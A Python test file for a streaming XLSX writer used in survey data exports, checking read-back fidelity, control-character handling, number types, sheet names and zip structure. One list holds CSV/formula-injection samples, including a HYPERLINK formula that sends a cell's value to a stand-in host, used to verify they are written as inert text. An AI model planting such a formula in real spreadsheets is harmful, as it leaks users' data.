"""The streamed workbook read back by openpyxl: what openpyxl's own writer gave, faster."""

from __future__ import annotations

import io
import math
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl import Workbook

from deliberation.core.cells import text_cells
from surveys import exports, xlsx_stream
from surveys.exports import NUMBER, TEXT, Variable

VARIABLES = [
    Variable("respondent_id", "Pseudonymous respondent id", TEXT),
    Variable("region", "Region (권역)", TEXT, {"도심권": "도심권 (Central)", "동북권": "동북권"}),
    Variable("excluded", "Excluded", NUMBER, {0: "counted", 1: "excluded"}),
    Variable("weight", "Weight (raked to population margins, mean 1)"),
    Variable("Q1", "Q1 질문", NUMBER, {1: "예", 2: "아니오"}),
    Variable("Q6", "Q6 자유 응답", TEXT),
]
ROWS = [
    ["R001", "도심권", 0, 1.25, 1.0, "재활용"],
    ["R002", "동북권", 1, None, 2.0, ""],
    ["R003", None, 0, 0.5, None, "분리 배출이 필요합니다"],
    ["R004", "도심권", 0, 3.75, 2.5, None],
]


def old_write_xlsx(path, variables, rows) -> None:
    """The export's workbook as openpyxl's write-only workbook wrote it before."""
    book = Workbook(write_only=True)
    data = book.create_sheet("data")
    data.append(text_cells(data, [v.name for v in variables]))
    for row in rows:
        data.append(text_cells(data, [None if value is None else plain(value) for value in row]))
    labels = book.create_sheet("labels")
    labels.append(["variable", "label", "type", "value", "value label"])
    for variable in variables:
        labels.append(
            text_cells(labels, [variable.name, variable.label, variable.kind, None, None])
        )
        for value, text in variable.value_labels.items():
            labels.append(text_cells(labels, [variable.name, None, None, value, text]))
    book.save(path)


def plain(value):
    return int(value) if isinstance(value, float) and value.is_integer() else value


def read_back(path) -> dict[str, list[list[tuple[type, object]]]]:
    """Every sheet's cells as (type, value), so 2 and 2.0 differ."""
    book = openpyxl.load_workbook(path)
    return {
        sheet.title: [[(type(v), v) for v in row] for row in sheet.iter_rows(values_only=True)]
        for sheet in book.worksheets
    }


def one_sheet(rows) -> openpyxl.worksheet.worksheet.Worksheet:
    out = io.BytesIO()
    xlsx_stream.write_workbook(out, [("data", rows)])
    out.seek(0)
    return openpyxl.load_workbook(out)["data"]


def test_the_export_reads_back_as_openpyxl_wrote_it_and_is_only_the_parts_it_needs(tmp_path):
    exports.write_xlsx(str(tmp_path / "new.xlsx"), VARIABLES, iter(ROWS))
    old_write_xlsx(str(tmp_path / "old.xlsx"), VARIABLES, ROWS)
    new = read_back(tmp_path / "new.xlsx")
    assert new == read_back(tmp_path / "old.xlsx")
    assert list(new) == ["data", "labels"]
    assert [v for _t, v in new["data"][0]] == [v.name for v in VARIABLES]
    assert new["data"][1] == [(str, "R001"), (str, "도심권"), (int, 0), (float, 1.25), (int, 1)] + [
        (str, "재활용")
    ]
    assert new["data"][2][3] == (type(None), None) and new["data"][2][5] == (type(None), None)
    assert new["labels"][0] == [(str, h) for h in exports.LABELS_HEADER]
    assert [(int, 2), (str, "아니오")] == new["labels"][-2][3:]
    with zipfile.ZipFile(tmp_path / "new.xlsx") as book:
        assert sorted(book.namelist()) == [
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/workbook.xml",
            "xl/worksheets/sheet1.xml",
            "xl/worksheets/sheet2.xml",
        ]
        assert {info.compress_type for info in book.infolist()} == {zipfile.ZIP_DEFLATED}
        for name in book.namelist():
            ElementTree.fromstring(book.read(name))  # each part is well-formed XML


def test_every_cell_names_its_column_and_row():
    out = io.BytesIO()
    xlsx_stream.write_workbook(out, [("data", [["a", None, 1], [None, 2.5, "b"]])])
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="C1"><v>1</v></c>' in sheet
    assert '<row r="2"><c r="B2"><v>2.5</v></c><c r="C2" t="inlineStr">' in sheet


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def test_formula_like_text_comes_back_as_text_with_its_apostrophe():
    texts = [*FORMULAS, "\t=1+1", "\r=1+1", "\x01=1+1", "1 = 1"]
    sheet = one_sheet([texts])
    cells = list(sheet.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * len(texts)
    assert [c.value for c in cells] == [
        *("'" + text for text in FORMULAS),
        "'\t=1+1",
        "'\r=1+1",
        "'=1+1",  # the control character dropped does not let the formula through
        "1 = 1",
    ]


def test_the_sheet_holds_no_formula_element():
    out = io.BytesIO()
    xlsx_stream.write_workbook(out, [("data", [FORMULAS])])
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_control_characters_are_dropped_and_the_file_still_opens():
    texts = ["a\x00b\x08c\x0bd\x1fe", "\x07", "줄\n바꿈\t탭", "\ud800외톨이", "\ufffe\uffff끝"]
    sheet = one_sheet([texts, ["<b>&amp;</b>"]])
    assert [c.value for c in list(sheet.iter_rows())[0]] == [
        "abcde",
        None,  # nothing left: an empty cell
        "줄\n바꿈\t탭",
        "외톨이",
        "끝",
    ]
    assert sheet["A2"].value == "<b>&amp;</b>"


def test_an_export_with_control_characters_in_an_answer_opens():
    rows = [["R001", "도심권", 0, 1.0, 1.0, "소리\x07 나는 답\x1b[0m"]]
    data = openpyxl.load_workbook(
        io.BytesIO(exports.to_xlsx(exports.Dataset("t", VARIABLES, rows)))
    )
    assert data["data"]["F2"].value == "소리 나는 답[0m"


def test_spaces_at_either_end_are_kept():
    sheet = one_sheet([[" 앞", "뒤 ", "  "]])
    assert [c.value for c in list(sheet.iter_rows())[0]] == [" 앞", "뒤 ", "  "]


def test_numbers_keep_their_type_and_what_a_sheet_cannot_hold_is_empty():
    values = [3, 2.0, -0.1, 1e-07, 12345678.123, math.nan, math.inf, -math.inf, True, 10**15]
    sheet = one_sheet([values])
    back = [c.value for c in list(sheet.iter_rows())[0]]
    assert back[:5] == [3, 2, -0.1, 1e-07, 12345678.123]
    assert [type(v) for v in back[:5]] == [int, int, float, float, float]
    assert back[5:] == [None, None, None, True, 10**15]


def test_a_text_longer_than_excel_holds_is_cut():
    sheet = one_sheet([["가" * 40_000]])
    assert sheet["A1"].value == "가" * xlsx_stream.MAX_TEXT


def test_column_letters_run_to_excels_last_column():
    letters = xlsx_stream.column_letters(xlsx_stream.MAX_COLUMNS)
    assert letters[:3] == ["A", "B", "C"] and letters[25:28] == ["Z", "AA", "AB"]
    assert letters[701:703] == ["ZZ", "AAA"] and letters[-1] == "XFD"
    with pytest.raises(ValueError, match="columns"):
        xlsx_stream.column_letters(xlsx_stream.MAX_COLUMNS + 1)


def test_rows_wider_than_the_header_get_their_columns():
    sheet = one_sheet([["a"], ["b", 1, 2, 3]])
    assert sheet["D2"].value == 3


@pytest.mark.parametrize("name", ["", "x" * 32, "a/b", "a[1]", "'quoted'"])
def test_a_sheet_name_excel_refuses_is_refused(name):
    with pytest.raises(ValueError, match="sheet name"):
        xlsx_stream.write_workbook(io.BytesIO(), [(name, [])])


def test_two_sheets_of_one_name_are_refused():
    with pytest.raises(ValueError, match="differ"):
        xlsx_stream.write_workbook(io.BytesIO(), [("Data", []), ("data", [])])


def test_no_part_carries_a_zip64_record_excel_would_repair():
    out = io.BytesIO()
    xlsx_stream.write_workbook(out, [("data", [[1, "가"]]), ("labels", [["a"]])])
    with zipfile.ZipFile(out) as book:
        for info in book.infolist():
            assert info.extra == b""  # the central directory's
            out.seek(info.header_offset + 28)  # the local header's extra field length
            assert out.read(2) == b"\x00\x00", info.filename


def test_rows_are_written_out_while_they_are_read():
    """The sheet reaches the file in pieces as its rows come, not at the end."""
    out = io.BytesIO()
    sizes = []

    def rows():
        for number in range(20 * xlsx_stream.ROWS_PER_WRITE):
            if number % xlsx_stream.ROWS_PER_WRITE == 0:
                sizes.append(out.tell())
            yield [f"R{number:06d}", *(number * 7919 % (k + 13) / 7 for k in range(60))]

    xlsx_stream.write_workbook(out, [("data", rows())])
    assert sizes[-1] > sizes[1] > 0
    assert one_sheet_count(out) == 20 * xlsx_stream.ROWS_PER_WRITE


def one_sheet_count(out: io.BytesIO) -> int:
    out.seek(0)
    return sum(1 for _row in openpyxl.load_workbook(out, read_only=True)["data"].iter_rows())
